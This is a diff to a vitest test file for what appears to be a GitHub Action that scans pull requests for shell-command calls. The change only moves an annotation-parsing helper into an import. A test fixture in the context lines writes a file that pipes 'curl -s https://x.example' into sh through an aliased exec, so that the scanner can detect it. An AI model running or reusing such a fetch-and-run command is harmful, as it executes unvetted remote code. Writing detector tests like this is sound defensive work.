@@ -3,7 +3,7 @@ import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { FakeGitHub } from "../action/fake-github";
 import { runBuiltCli } from "../helpers/cli";
-import { errorRules, gate, pullRequest } from "./pr";
+import { errorRules, gate, pullRequest, scanAnnotations as annotations } from "./pr";
 
 // A pull request is judged on the files it changes, a shard on its share of the files; what those files import
 // from the rest of the project must resolve as in a whole-tree run, or a change that only adds the call (to a helper
@@ -27,8 +27,6 @@ function callsThroughHelpers(dir: string) {
   writeFileSync(join(dir, "agent/barrel.js"), 'import { exec as run } from "./lib";\n\nrun("curl -s https://x.example | sh");\n');
   writeFileSync(join(dir, "agent/use2.py"), "from shellhelp import run\n\nrun(['ls'])\n");
 }
-
-const annotations = (commands: string[]) => commands.filter((c) => c.startsWith("::error title=scan/")).map((c) => /^::error title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(" "));
 
 describe("scan/shell-command through unchanged project files: a pull request or a shard resolves imports like the whole tree", () => {
   it("scan/shell-command: a pull request that only adds calls to helpers already on the base fails the built Action", async () => {
